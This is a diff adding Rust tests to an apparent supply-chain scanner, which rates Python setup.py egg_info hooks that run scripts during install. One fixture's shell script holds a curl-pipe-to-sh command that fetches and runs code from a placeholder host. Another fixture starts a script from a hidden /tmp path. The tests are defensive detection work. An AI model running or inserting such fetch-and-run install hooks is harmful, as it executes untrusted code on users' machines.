@@ -236,6 +236,60 @@ fn a_build_step_running_a_shipped_script_that_downloads_and_runs_is_high() {
     assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, High)]);
 }
 
+const RUNS_CONVERTER: &str = r#"import os, subprocess
+from setuptools import setup
+from setuptools.command.egg_info import egg_info
+class EggInfo(egg_info):
+    def initialize_options(self):
+        converter = os.path.dirname(os.path.realpath(__file__)) + "/convert_to_py2.sh"
+        subprocess.check_call([converter])
+        egg_info.initialize_options(self)
+setup(cmdclass={"egg_info": EggInfo})
+"#;
+
+#[test]
+fn a_build_step_starting_the_project_own_script_as_the_program_is_medium() {
+    // PyLaTeX's egg_info runs its shipped conversion script by its path.
+    let r = sdist(&[
+        ("setup.py", RUNS_CONVERTER),
+        (
+            "convert_to_py2.sh",
+            "#!/bin/sh
+3to2 -w pylatex
+",
+        ),
+        ("acme/__init__.py", ""),
+    ]);
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, Medium)]);
+}
+
+#[test]
+fn a_script_started_as_the_program_that_downloads_and_runs_or_is_not_shipped_is_high() {
+    let r = sdist(&[
+        ("setup.py", RUNS_CONVERTER),
+        (
+            "convert_to_py2.sh",
+            "#!/bin/sh
+curl -s https://cdn.example.net/x.sh | sh
+",
+        ),
+        ("acme/__init__.py", ""),
+    ]);
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, High)]);
+    let elsewhere = RUNS_CONVERTER.replace("os.path.dirname(os.path.realpath(__file__)) + \"/convert_to_py2.sh\"", "\"/tmp/.cache/convert_to_py2.sh\"");
+    let r = sdist(&[
+        ("setup.py", &elsewhere),
+        (
+            "convert_to_py2.sh",
+            "#!/bin/sh
+3to2 -w pylatex
+",
+        ),
+        ("acme/__init__.py", ""),
+    ]);
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, High)]);
+}
+
 // ---------------------------------------------------------------- grouping and the queue's why
 
 #[test]
